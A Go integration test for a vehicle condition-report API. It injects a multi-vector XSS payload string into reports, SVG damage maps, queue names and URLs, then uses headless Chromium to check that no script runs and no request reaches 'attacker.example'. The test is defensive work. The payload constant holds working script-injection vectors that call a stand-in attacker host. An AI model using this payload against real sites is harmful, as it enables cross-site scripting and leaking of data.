package api_test

import (
	"context"
	"encoding/json"
	"fmt"
	"maps"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"
	"github.com/hibiken/asynq"

	"ushuru/api"
	"ushuru/pkg/cache"
	"ushuru/pkg/redisx/redistest"
	"ushuru/pkg/testenv"
)

// hostile is a text that runs a script, or loads something from another host, wherever
// it is taken for markup.
const hostile = `"><script>window.HIT=1;fetch('http://attacker.example/s')</script>` +
	`<img src="http://attacker.example/i" onerror="window.HIT=1;alert(1)"><svg onload="window.HIT=1"><use href="http://attacker.example/u#x"/>` +
	`<image href="http://attacker.example/p"/><foreignObject><iframe src="http://attacker.example/f"></iframe></foreignObject>` +
	`<animate attributeName="href" values="javascript:window.HIT=1"/><style>@import url(http://attacker.example/c);` +
	`*{background:url(http://attacker.example/b)}</style><link rel="stylesheet" href="http://attacker.example/l">` +
	`<meta http-equiv="refresh" content="0;url=http://attacker.example/r"><base href="http://attacker.example/">]]><![CDATA[` +
	`&#60;script&#62;window.HIT=1&#60;/script&#62;' onmouseover='window.HIT=1' javascript:window.HIT=1 ` +
	`</title></desc></text></svg><script>window.HIT=1</script>` + "\u202e\ufeff"

func must(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

// hostileIn replaces every text of a value of JSON. Panels of the car stay, so that
// their codes are drawn.
func hostileIn(value any, key string) any {
	switch v := value.(type) {
	case string:
		if key == "panel" || key == "side" {
			return v
		}
		return hostile
	case []any:
		for i := range v {
			v[i] = hostileIn(v[i], key)
		}
	case map[string]any:
		for name := range v {
			v[name] = hostileIn(v[name], name)
		}
	}
	return value
}

// hostileReading is the reading of a sheet with hostile texts in all fields, and a code
// on a panel that does not exist.
func hostileReading(t *testing.T) []byte {
	t.Helper()
	var reading struct {
		Report map[string]any `json:"report"`
	}
	must(t, json.Unmarshal(readingJSON(), &reading))
	reading.Report = hostileIn(reading.Report, "").(map[string]any)
	mark := map[string]any{
		"panel": hostile, "side": hostile, "code_raw": hostile, "severity": hostile, "from_legend": true, "legend_jp": hostile,
		"meaning": map[string]any{"en": hostile, "sw": hostile},
	}
	marks, _ := reading.Report["body_map"].([]any)
	on := map[string]any{}
	maps.Copy(on, mark)
	on["panel"], on["side"] = "roof", nil
	reading.Report["body_map"] = append(marks, mark, on)
	data, err := json.Marshal(reading)
	must(t, err)
	return data
}

// watcher is a browser whose requests to other hosts arrive at a proxy of the test.
type watcher struct {
	ctx context.Context //nolint:containedctx // of the browser, which the test closes

	mu      sync.Mutex
	left    []string // requests to other hosts
	dialogs int
}

func watch(t *testing.T) *watcher {
	t.Helper()
	w := &watcher{}
	proxy := httptest.NewServer(http.HandlerFunc(func(out http.ResponseWriter, r *http.Request) {
		w.mu.Lock()
		defer w.mu.Unlock()
		w.left = append(w.left, r.Method+" "+r.Host+r.URL.Path)
		out.WriteHeader(http.StatusNotFound)
	}))
	t.Cleanup(proxy.Close)
	w.ctx = browser(t, chromedp.ProxyServer(proxy.URL)) // Chromium asks this machine itself
	chromedp.ListenTarget(w.ctx, func(event any) {
		if _, ok := event.(*page.EventJavascriptDialogOpening); ok {
			w.mu.Lock()
			defer w.mu.Unlock()
			w.dialogs++
			go func() { _ = chromedp.Run(w.ctx, page.HandleJavaScriptDialog(true)) }()
		}
	})
	return w
}

// visit opens a page and reports whether a script of the hostile text ran, and what was
// asked of other hosts.
func (w *watcher) visit(t *testing.T, address string, headers network.Headers) (ran bool, left []string) {
	t.Helper()
	w.mu.Lock()
	w.left, w.dialogs = nil, 0
	w.mu.Unlock()
	err := chromedp.Run(w.ctx, network.Enable(), network.SetExtraHTTPHeaders(headers),
		chromedp.Navigate(address), chromedp.Sleep(300*time.Millisecond), chromedp.Evaluate(`window.HIT === 1`, &ran))
	w.mu.Lock()
	defer w.mu.Unlock()
	if err != nil {
		t.Errorf("%s: %v", address, err)
	}
	return ran || w.dialogs > 0, slices.DeleteFunc(slices.Clone(w.left), func(asked string) bool {
		return !strings.Contains(asked, "attacker.example") // what Chromium asks for itself
	})
}

// TestHostileTextsStayTextInABrowser opens everything that a browser takes for a page or
// a picture with hostile texts in all fields: the damage map in each way in which a page
// can show it, the operator's pages, and answers that are opened as pages.
func TestHostileTextsStayTextInABrowser(t *testing.T) {
	t.Parallel()
	testenv.Long(t)
	a := newApp(t, redistest.Open(t, redistest.Start(t).URL), func(o *api.Options) {
		monitored(o)
		o.Page.Enabled = true
	})
	w := watch(t)
	bare := serveHTML(t, map[string]string{"/": "<!doctype html><body>" + hostile})
	if ran, left := w.visit(t, bare, nil); !ran || len(left) == 0 {
		t.Fatalf("the hostile text is harmless here, so this test shows nothing: %t, %q", ran, left)
	}

	id := strings.Repeat("ab", 16)
	must(t, a.cache.PutRaw(t.Context(), cache.ReadingKey(id), hostileReading(t), time.Now().Add(time.Hour)))
	client := asynq.NewClientFromRedisClient(a.conn.Client())
	task, err := client.Enqueue(asynq.NewTask("estimate:"+hostile, []byte(hostile)), asynq.Queue("any"), asynq.TaskID(hostile))
	must(t, err)
	byKey := network.Headers{"X-Api-Key": a.key}
	operators := network.Headers{"Authorization": basic(operator, password)}
	pages := map[string]network.Headers{}
	for _, lang := range []string{"en", "sw"} {
		drawing := "/v1/condition-report/" + id + "/map.svg?lang=" + lang
		pages[a.URL+drawing] = byKey
		svg := a.send(t, a.request(t, http.MethodGet, drawing, "")).body
		if !strings.Contains(svg, "attacker.example") {
			t.Errorf("the drawing has no hostile text: %.300s", svg)
		}
		shown := serveHTML(t, map[string]string{
			"/inline": "<!doctype html><body>" + svg, "/map.svg": svg, "/img": `<!doctype html><img src="/map.svg">`,
			"/object": `<!doctype html><object data="/map.svg" type="image/svg+xml"></object>`,
			"/frame":  `<!doctype html><iframe src="/map.svg"></iframe>`,
		})
		for _, path := range []string{"/inline", "/map.svg", "/img", "/object", "/frame"} {
			pages[shown+path] = nil
		}
	}
	escaped := url.PathEscape(hostile)
	for _, path := range []string{
		"/monitoring/", "/monitoring/queues/any?status=pending", "/monitoring/queues/any/tasks/" + url.PathEscape(task.ID),
		"/monitoring/queues/" + escaped, "/monitoring/api/queues/any/pending_tasks", "/monitoring/servers",
	} {
		pages[a.URL+path] = operators
	}
	for _, path := range []string{
		"/v1/jobs/" + escaped, "/v1/vehicles?make=" + url.QueryEscape(hostile), "/v1/sites?lang=" + url.QueryEscape(hostile),
		"/" + escaped, "/v1/condition-report/" + escaped + "/map.svg", "/readyz?" + escaped,
	} {
		pages[a.URL+path] = byKey
	}
	for _, path := range []string{"/?u=" + url.QueryEscape(hostile), "/?lang=" + url.QueryEscape(hostile), "/e/" + escaped} {
		pages[a.URL+path] = nil
	}
	for address, headers := range pages {
		if ran, left := w.visit(t, address, headers); ran || len(left) > 0 {
			t.Errorf("%.150s: a script ran: %t; asked of other hosts: %q", address, ran, left)
		}
	}
}

// serveHTML serves pages, and drawings, without any policy.
func serveHTML(t *testing.T, pages map[string]string) string {
	t.Helper()
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		kind := "text/html; charset=utf-8"
		if strings.HasSuffix(r.URL.Path, ".svg") {
			kind = "image/svg+xml"
		}
		w.Header().Set("Content-Type", kind)
		_, _ = fmt.Fprint(w, pages[r.URL.Path])
	}))
	t.Cleanup(server.Close)
	return server.URL
}
